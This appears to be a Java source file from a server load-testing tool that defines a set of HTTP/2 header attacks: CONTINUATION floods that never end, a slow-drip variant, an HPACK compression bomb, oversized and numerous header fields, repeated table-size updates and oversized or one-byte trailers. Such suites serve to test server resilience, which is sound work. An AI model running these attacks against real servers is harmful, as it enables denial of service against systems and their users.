package dev.medley.loadtest.attack.way;

import static dev.medley.loadtest.attack.way.Steps.attack;

import dev.medley.loadtest.attack.connection.Attack;
import dev.medley.loadtest.attack.way.Http2Client.Plan;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;

/** Attacks over HTTP/2 by header fields and trailers. */
final class Http2Heads {

    private static final int LARGE_FRAME = 16_000;
    private static final int TABLE_SIZE_OF_ZERO = 0x20;
    private static final int UPDATES = 10_000;
    private static final int REFERENCES = 12_000;
    private static final int HUGE_BYTES = 15_000;
    private static final int FIELDS = 180;
    private static final Duration DRIP = Duration.ofMillis(50);
    private static final byte[] NO_BYTES = new byte[0];
    private static final byte[] SMALL = Steps.get(Targets.SMALL);
    private static final byte[] POST = Steps.post().bytes();
    private static final byte[] FIELD = FieldBlock.trailers().field("x", "y").bytes();
    private static final byte[] BOMB = FieldBlock.get(Targets.SMALL, Attack.Way.CLEAR)
            .bomb("x", "y".repeat(3_900), REFERENCES)
            .bytes();
    private static final byte[] HUGE = FieldBlock.get(Targets.SMALL, Attack.Way.CLEAR)
            .field("x", "y".repeat(HUGE_BYTES))
            .bytes();
    private static final byte[] MANY =
            FieldBlock.get(Targets.SMALL, Attack.Way.CLEAR).many(FIELDS).bytes();
    private static final byte[] HUGE_TRAILERS =
            FieldBlock.trailers().field("x", "y".repeat(LARGE_FRAME)).bytes();

    private Http2Heads() {}

    static List<Attack> all() {
        return List.of(
                continued("h2-continuation", "CONTINUATION without end", FIELD),
                continued("h2-continuation-empty", "CONTINUATION without a byte, without end", NO_BYTES),
                attack(
                        "h2-continuation-drip",
                        "%d bytes a second of header fields that do not end"
                                .formatted(FIELD.length * Duration.ofSeconds(1).dividedBy(DRIP)),
                        Plan.of()
                                .opening(Http2Heads::beginHead)
                                .round(client -> continueHead(client, FIELD))
                                .pause(DRIP)),
                oneByOne(
                        "h2-hpack-bomb",
                        "a field of 4 KB that is referred to %,d times (HPACK)".formatted(REFERENCES),
                        BOMB),
                oneByOne("h2-huge-fields", "a field of %d KB".formatted(HUGE_BYTES / 1000), HUGE),
                attack(
                        "h2-many-fields",
                        FIELDS + " fields without a value",
                        Plan.of().round(client -> Steps.fill(client, MANY))),
                attack(
                        "h2-table-updates",
                        "header fields with %,d changes of the table's size".formatted(UPDATES),
                        Plan.of()
                                .round(client -> client.frames()
                                        .frame(
                                                FrameWriter.HEADERS,
                                                FrameWriter.END_STREAM | FrameWriter.END_HEADERS,
                                                client.open(),
                                                updates()))),
                attack(
                        "h2-trailers",
                        "trailers of %d KB".formatted(LARGE_FRAME / 1000),
                        Plan.of().round(client -> {
                            client.frames().headers(client.open(), POST, false);
                            client.frames().headers(client.last(), HUGE_TRAILERS, true);
                        })),
                attack(
                        "h2-trailers-tiny",
                        "trailers in frames of one byte, without end",
                        Plan.of()
                                .opening(client -> {
                                    client.frames().headers(client.open(), POST, false);
                                    client.frames().frame(FrameWriter.HEADERS, FrameWriter.END_STREAM, client.last());
                                })
                                .round(client -> Steps.repeat(i -> client.frames()
                                        .frame(FrameWriter.CONTINUATION, 0, client.last(), FIELD[i % FIELD.length])))));
    }

    /** The server ends the connection for the first: all at once would be most of what the attacker may send. */
    private static Attack oneByOne(String name, String what, byte[] block) {
        return attack(name, what, Plan.of().round(client -> client.frames().headers(client.open(), block, true)));
    }

    private static Attack continued(String name, String what, byte[] block) {
        return attack(
                name,
                what,
                Plan.of()
                        .opening(Http2Heads::beginHead)
                        .round(client -> Steps.repeat(i -> continueHead(client, block))));
    }

    private static void beginHead(Http2Client client) {
        client.frames().frame(FrameWriter.HEADERS, FrameWriter.END_STREAM, client.open(), SMALL);
    }

    private static void continueHead(Http2Client client, byte[] block) {
        client.frames().frame(FrameWriter.CONTINUATION, 0, client.last(), block);
    }

    private static byte[] updates() {
        byte[] block = new byte[UPDATES + SMALL.length];
        Arrays.fill(block, (byte) TABLE_SIZE_OF_ZERO);
        System.arraycopy(SMALL, 0, block, UPDATES, SMALL.length);
        return block;
    }
}
